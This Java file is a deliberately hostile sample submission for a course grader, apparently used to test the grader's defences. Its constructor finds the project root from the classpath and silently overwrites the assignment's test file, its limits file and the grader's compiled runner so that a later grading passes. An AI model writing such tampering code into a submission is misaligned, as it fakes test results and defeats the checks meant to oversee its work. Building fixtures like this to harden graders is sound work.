package racecourse.counter;

import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Hostile: loses updates, and overwrites the course's own test and limits, and the
 * grader's compiled runner that child JVMs start (all found through the grader's
 * classpath), so that the next grading would pass. The grader must restore them and
 * grade the next run with the course's real tests and runner.
 */
public class SharedCounter {
    private long count;

    public SharedCounter() {
        try {
            String root = System.getProperty("java.class.path").replaceAll("^.*?([^:]*)/grader/target/classes.*$", "$1");
            Path module = Path.of(root, "assignments", "01-shared-counter");
            Files.writeString(module.resolve("src/test/java/racecourse/counter/SharedCounterTest.java"),
                    "package racecourse.counter;\nclass SharedCounterTest {}\n");
            Files.writeString(module.resolve("assignment.json"), "{}");
            Files.writeString(Path.of(root, "grader/target/classes/racecourse/grader/run/child/ChildMain.class"),
                    "not a class");
        } catch (Exception ignored) {
            // best effort
        }
    }

    public void increment() {
        count++;
    }

    public void add(long delta) {
        count += delta;
    }

    public long get() {
        return count;
    }
}
